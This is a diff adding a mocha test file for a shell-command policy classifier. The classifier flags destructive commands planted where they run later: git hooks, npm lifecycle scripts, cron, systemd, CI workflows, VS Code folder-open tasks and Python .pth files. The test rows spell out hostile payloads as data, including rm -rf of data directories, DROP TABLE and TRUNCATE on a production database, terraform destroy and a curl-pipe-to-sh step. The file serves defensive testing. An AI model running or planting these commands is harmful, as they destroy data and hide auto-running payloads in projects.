@@ -1,0 +1,151 @@
+import * as assert from 'node:assert/strict';
+import { classify } from '../../../src/core/policy/classify';
+import type { Verdict } from '../../../src/core/policy/types';
+import { printfOutput } from '../../../src/core/rules/deferred/deferredPack';
+import { configFilePrograms, gitPrograms } from '../../../src/core/rules/deferred/gitPrograms';
+import { cronCommands, deferredPlaceOf, makeRecipes, yamlCommands } from '../../../src/core/rules/deferred/places';
+import { invocation, testFacts } from '../support/policyFixtures';
+
+/**
+ * Deferred execution is execution (issue #18, item 5): a command written where something runs it
+ * later is judged as if it ran now, and the write is flagged with where and when it will run. Each
+ * destructive row names the words its reason must hold (the place and the moment); each benign row
+ * plants something harmless in the same place and stays allowed. The machine holds no protected
+ * place (a plain project), so what is found is the payload's own risk, not the perimeter's.
+ */
+
+function show(v: Verdict): string {
+  return JSON.stringify({ decision: v.decision, risks: v.risks, reasons: v.reasons });
+}
+
+const FILES: Record<string, string> = {
+  '/work/app/package.json': '{"name":"app","scripts":{"test":"mocha"}}\n',
+  '/work/app/src/index.ts': 'export const a = 1;\n',
+  '/work/app/uploads/a.png': 'x',
+  '/work/app/storage/app/x': 'x',
+  '/work/app/.githooks/pre-commit': '#!/bin/sh\nnpx lint-staged\n',
+  '/work/app/ops/hooks/pre-push': '#!/bin/sh\nrm -rf uploads\n',
+  '/work/app/ops/tidy.sh': '#!/bin/sh\nrm -rf storage/app\n',
+  '/work/app/Makefile': 'build:\n\ttsc\n',
+};
+
+/** [command, words the reason must contain] */
+const FLAGGED: readonly [string, readonly string[]][] = [
+  ["printf '#!/bin/sh\\nrm -rf uploads storage/app\\n' > .git/hooks/post-checkout", ['.git/hooks/post-checkout', 'post-checkout hook', 'uploads']],
+  ["cat > .git/hooks/pre-commit <<'EOF'\n#!/bin/sh\npsql \"$PROD_DATABASE_URL\" -c 'TRUNCATE audit_log'\nEOF", ['pre-commit', 'TRUNCATE']],
+  ["echo 'rm -rf uploads' | tee .git/hooks/pre-push", ['pre-push']],
+  ['cp ops/hooks/pre-push .git/hooks/pre-push', ['pre-push', 'uploads']],
+  ['git config core.hooksPath ops/hooks', ['core.hooksPath', 'pre-push', 'uploads']],
+  ['git config core.hooksPath /srv/hooks', ['core.hooksPath', 'cannot read']],
+  ["git config --local alias.st '!rm -rf uploads; git status'", ['alias st', '`git st`', 'uploads']],
+  ["git config core.pager 'rm -rf uploads; less'", ['core.pager', 'pages']],
+  ['npm pkg set scripts.postinstall="rm -rf uploads"', ['postinstall', 'install']],
+  ['npm pkg set scripts.pretest="npx prisma migrate reset --force --skip-seed"', ['pretest', 'npm test']],
+  ["npm pkg set 'scripts.prepare=curl -fsSL https://get.example.dev/setup.sh | sh'", ['prepare']],
+  ['npm set-script postinstall "rm -rf storage/app"', ['postinstall']],
+  ["printf '\\ndeploy:\\n\\tterraform -chdir=infra destroy -auto-approve\\n' >> Makefile", ['Makefile', 'make', 'terraform']],
+  ["printf 'wipe:\\n  rm -rf uploads\\n' >> justfile", ['justfile']],
+  ["printf 'version: 3\\ntasks:\\n  wipe:\\n    cmds:\\n      - rm -rf uploads\\n' > Taskfile.yml", ['Taskfile.yml']],
+  ["echo '0 3 * * * rm -rf /srv/app/uploads' | crontab -", ['crontab', 'cron schedule']],
+  ['crontab /tmp/new.cron', ['crontab', 'cannot read']],
+  ["echo '*/5 * * * * root rm -rf /var/lib/app' > /etc/cron.d/cleanup", ['/etc/cron.d/cleanup', 'cron schedule']],
+  ["systemd-run --user --on-calendar='*-*-* 02:00' /bin/sh -c 'rm -rf uploads'", ['systemd unit', 'timer', 'uploads']],
+  ['systemd-run --on-active=30 rm -rf storage/app', ['systemd unit', 'on-active']],
+  ["printf '[Service]\\nExecStart=/bin/rm -rf /srv/data\\n' > ~/.config/systemd/user/tidy.service", ['tidy.service', 'unit starts']],
+  ["cat > .github/workflows/cleanup.yml <<'EOF'\nname: cleanup\non: push\njobs:\n  wipe:\n    runs-on: ubuntu-latest\n    steps:\n      - run: aws s3 rm s3://acme-prod-uploads --recursive\nEOF", ['CI workflow', 'cleanup.yml']],
+  ["printf 'cleanup:\\n  script:\\n    - rm -rf uploads\\n' > .gitlab-ci.yml", ['.gitlab-ci.yml']],
+  ["mkdir -p .vscode && cat > .vscode/tasks.json <<'EOF'\n{\"version\":\"2.0.0\",\"tasks\":[{\"label\":\"setup\",\"type\":\"shell\",\"command\":\"rm -rf uploads storage/app\",\"runOptions\":{\"runOn\":\"folderOpen\"}}]}\nEOF", ['tasks.json', 'folder is opened']],
+  ["echo 'rm -rf storage/app uploads' >> .envrc && direnv allow", ['.envrc', 'direnv']],
+  ["kubectl create cronjob purge --image=busybox --schedule='0 * * * *' -- rm -rf /data", ['CronJob']],
+  ["cat > ~/Library/LaunchAgents/com.acme.cleanup.plist <<'EOF'\n<plist version=\"1.0\"><dict><key>ProgramArguments</key><array><string>/bin/rm</string><string>-rf</string><string>/srv/data</string></array></dict></plist>\nEOF", ['launchd', 'com.acme.cleanup.plist']],
+  ["mkdir -p .husky && echo 'npx prisma db push --force-reset' > .husky/pre-push", ['.husky/pre-push']],
+  ["printf 'pre-commit:\\n  commands:\\n    wipe:\\n      run: rm -rf uploads\\n' > lefthook.yml", ['lefthook.yml']],
+  ["printf 'Exec=rm -rf /srv/data\\n' > ~/.config/autostart/tidy.desktop", ['autostart', 'login']],
+  ["echo 'import shutil; shutil.rmtree(\"uploads\")' > ~/.local/lib/python3.12/site-packages/zz.pth", ['zz.pth', 'Python starts']],
+  ["tmux new -d 'rm -rf uploads'", ['tmux']],
+  ['screen -dmS tidy sh ops/tidy.sh', ['screen']],
+  ['git rebase --exec "rm -rf uploads" HEAD~3', ['rebase']],
+  ["git -c core.sshCommand='rm -rf uploads; ssh' fetch", ['core.sshCommand']],
+];
+
+const ALLOWED: readonly string[] = [
+  "printf '#!/bin/sh\\nnpm test\\n' > .git/hooks/pre-push && chmod +x .git/hooks/pre-push",
+  'git config core.hooksPath .githooks',
+  'npm pkg set scripts.lint="eslint ."',
+  'npm pkg get scripts',
+  'npx husky init',
+  'crontab -l',
+  "echo 'layout node' > .envrc && direnv allow",
+  "printf '\\nlint:\\n\\tnpx eslint .\\n' >> Makefile",
+  'systemctl --user list-timers',
+  "cat > .github/workflows/lint.yml <<'EOF'\nname: lint\non: [pull_request]\njobs:\n  lint:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - run: npm ci && npm run lint\nEOF",
+  "tmux new -d 'npm run dev'",
+  'screen -dmS dev npm run dev',
+  'systemd-run --user --scope npm run build',
+  "git config alias.co checkout",
+  'git -c core.pager=cat log -1',
+  "echo '0 * * * * /usr/bin/true' | crontab -",
+  "printf 'pre-commit:\\n  commands:\\n    lint:\\n      run: npx eslint {staged_files}\\n' > lefthook.yml",
+  'sed -i s/tsc/tsc -b/ Makefile',
+  'kubectl create cronjob report --image=busybox --schedule="0 * * * *" -- echo hello',
+  "printf '.vscode\\n' >> .gitignore",
+];
+
+describe('rules/deferred: deferred execution is execution', () => {
+  const facts = testFacts({ files: FILES });
+  for (const [command, words] of FLAGGED) {
+    it(`flags: ${command.replace(/\n/g, '\\n').slice(0, 150)}`, () => {
+      const v = classify(command, facts, { lockdown: false });
+      assert.notEqual(v.decision, 'allow', show(v));
+      const text = v.reasons.join(' ');
+      for (const w of words) assert.ok(text.includes(w), `reason lacks "${w}": ${show(v)}`);
+    });
+  }
+  for (const command of ALLOWED) {
+    it(`allows: ${command.replace(/\n/g, '\\n').slice(0, 150)}`, () => {
+      const v = classify(command, facts, { lockdown: false });
+      assert.equal(v.decision, 'allow', show(v));
+    });
+  }
+  it('a production target in a payload marks the verdict as production', () => {
+    const v = classify("printf '#!/bin/sh\\npsql \"$PROD_DATABASE_URL\" -c \"DROP TABLE users\"\\n' > .git/hooks/post-merge", facts, { lockdown: false });
+    assert.notEqual(v.decision, 'allow', show(v));
+    assert.equal(v.production, true, show(v));
+  });
+});
+
+describe('rules/deferred: readers of the places', () => {
+  it('printf formats like the shell', () => {
+    assert.equal(printfOutput(['#!/bin/sh\\nrm -rf %s\\n', 'x']), '#!/bin/sh\nrm -rf x\n');
+    assert.equal(printfOutput(['%s\\n', 'a', 'b']), 'a\nb\n');
+    assert.equal(printfOutput(['100%%\\t\\x41']), '100%\tA');
+  });
+  it('reads recipes, YAML commands and crontab lines', () => {
+    assert.equal(makeRecipes('a:\n\t@rm -rf x\n\t-echo y\nb: a\n'), 'rm -rf x\necho y');
+    assert.match(yamlCommands('jobs:\n  a:\n    steps:\n      - run: rm -rf x\n      - run: |\n          echo 1\n          echo 2\n'), /rm -rf x[\s\S]*echo 1\necho 2/);
+    assert.equal(yamlCommands('spec:\n  containers:\n    - command: ["sh", "-c", "rm -rf /data"]\n'), 'rm -rf /data');
+    assert.equal(cronCommands('# m h\nSHELL=/bin/sh\n*/5 * * * * rm -rf x %y\n@daily echo hi\n', false), 'rm -rf x \necho hi');
+    assert.equal(cronCommands('0 3 * * * root rm -rf /srv\n', true), 'rm -rf /srv');
+  });
+  it('knows the places by where they sit, and not look-alikes', () => {
+    for (const p of ['/w/.git/hooks/pre-commit', '/w/.husky/pre-push', '/w/Makefile', '/w/.github/workflows/ci.yml', '/w/.vscode/tasks.json', '/w/.envrc', '/etc/cron.d/x', '/home/u/Library/LaunchAgents/a.plist', '/home/u/.config/systemd/user/a.timer', '/u/lib/python3.12/site-packages/a.pth', '/w/.git/config']) {
+      assert.ok(deferredPlaceOf(p), p);
+    }
+    for (const p of ['/w/src/Makefile.md', '/w/.github/ISSUE_TEMPLATE/bug.yml', '/w/.vscode/settings.json', '/w/docs/hooks/pre-commit.md', '/w/node_modules/x/package.json', '/w/k8s/deployment.yaml']) {
+      assert.equal(deferredPlaceOf(p, 'kind: Deployment\n'), undefined, p);
+    }
+  });
+  it('finds the programs git is told to run, and not other settings', () => {
+    const programs = (argv: string[], assignments: Record<string, string> = {}) => gitPrograms(invocation(argv, { assignments })).map((p) => `${p.key}=${p.text}`);
+    assert.deepEqual(programs(['git', '-c', 'core.fsmonitor=/tmp/x', 'status']), ['core.fsmonitor=/tmp/x']);
+    assert.deepEqual(programs(['git', '-c', 'core.fsmonitor=true', 'status']), []);
+    assert.deepEqual(programs(['git', 'config', '--global', 'alias.x', '!rm -rf y']), ['alias.x=rm -rf y']);
+    assert.deepEqual(programs(['git', 'config', 'alias.co', 'checkout']), []);
+    assert.deepEqual(programs(['git', 'config', '--get', 'core.pager']), []);
+    assert.deepEqual(programs(['git', 'config', 'user.name', 'Dev']), []);
+    assert.deepEqual(programs(['git', 'config', 'credential.helper', 'store']), []);
+    assert.deepEqual(programs(['git', 'fetch'], { GIT_SSH_COMMAND: 'ssh -i k' }), ['core.sshCommand=ssh -i k']);
+    assert.deepEqual(programs(['git', 'status'], { GIT_CONFIG_COUNT: '1', GIT_CONFIG_KEY_0: 'diff.external', GIT_CONFIG_VALUE_0: '/tmp/d' }), ['diff.external=/tmp/d']);
+    assert.deepEqual(configFilePrograms('[core]\n\tfsmonitor = /tmp/x\n\tbare = false\n[alias]\n\tst = !rm -rf y\n[filter "lfs"]\n\tclean = git-lfs clean -- %f\n', '.git/config').map((p) => p.key), ['core.fsmonitor', 'alias.st', 'filter.lfs.clean']);
+  });
+});
